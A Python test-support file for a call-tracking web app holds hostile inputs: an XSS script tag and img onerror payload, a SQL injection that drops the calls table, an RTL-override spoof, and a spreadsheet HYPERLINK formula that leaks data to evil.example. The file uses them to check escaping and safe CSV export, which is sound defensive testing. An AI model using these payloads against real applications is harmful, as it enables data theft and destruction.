"""Hostile strings shared by the cases, and the checks that accepted input is shown safely."""

from __future__ import annotations

import csv
import io

from markupsafe import escape
from sqlalchemy import select

from ringtonic.extensions import db
from ringtonic.models import Call, Workspace
from tests.hostile.stage import Stage
from tests.support.web_client import post_form

SCRIPT = "<script>alert(1)</script>"
IMG = '<img src=x onerror="alert(1)">'
SQL = "x'); DROP TABLE calls; --"
RTL = "\u200fمكالمات\u200f \u202eevil.exe"
COMBINING = "Z\u0335\u0321a\u0336l\u0337g\u0338o"
EMOJI = "🔥 Hot leads 📞"
LONG = "L" * 20_000
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'


def shown_escaped(path: str, text: str):
    """Check that `path` shows `text` as text: escaped, never as live markup."""

    def check(stage: Stage, response) -> None:
        body = stage.client.get(path.format(stage=stage)).get_data(as_text=True)
        assert str(escape(text)) in body, f"{text!r} not shown on {path}"
        if "<" in text:
            assert text not in body, f"{text!r} rendered as markup on {path}"

    return check


def redirects_to(location: str):
    def check(stage: Stage, response) -> None:
        assert response.headers["Location"] == location

    return check


def signs_in_with(email: str, password: str):
    """Check that a fresh browser can sign in with the (odd) password just set."""

    def check(stage: Stage, response) -> None:
        browser = stage.app.test_client()
        answer = post_form(browser, "/login", {"email": email, "password": password})
        assert answer.status_code == 302, "the new password does not sign in"

    return check


def stored_call(sid: str, **expected):
    """Check the webhook's call was stored once with these fields, and its page escapes them."""

    def check(stage: Stage, response) -> None:
        db.session.expire_all()
        calls = db.session.scalars(select(Call).where(Call.provider_call_id == sid)).all()
        assert len(calls) == 1
        for name, value in expected.items():
            assert getattr(calls[0], name) == value, (name, getattr(calls[0], name))
        body = stage.client.get(f"/calls/{calls[0].uuid}").get_data(as_text=True)
        for value in expected.values():
            if isinstance(value, str) and value:
                assert str(escape(value)) in body

    return check


def exported_safely(text: str):
    """Check the CSV export holds `text` behind an apostrophe, so no spreadsheet runs it."""

    def check(stage: Stage, response) -> None:
        export = stage.client.get("/calls/export.csv", buffered=True).get_data(as_text=True)
        cells = [cell for row in csv.reader(io.StringIO(export)) for cell in row]
        assert "'" + text in cells
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)

    return check


def second_umlaut_name_is_refused(stage: Stage, response) -> None:
    """Check that "Ärzte Köln" after "ÄRZTE KÖLN" is a field error, not a server error."""
    again = post_form(
        stage.client, "/settings/workspaces", {"name": "Ärzte Köln", "time_zone": "UTC"}
    )
    assert again.status_code == 400
    assert "A workspace with this name already exists." in again.get_data(as_text=True)
    names = db.session.scalars(
        select(Workspace.name).where(Workspace.account_id == stage.account.id)
    ).all()
    assert sorted(names) == ["Hostile Agency", "ÄRZTE KÖLN"]
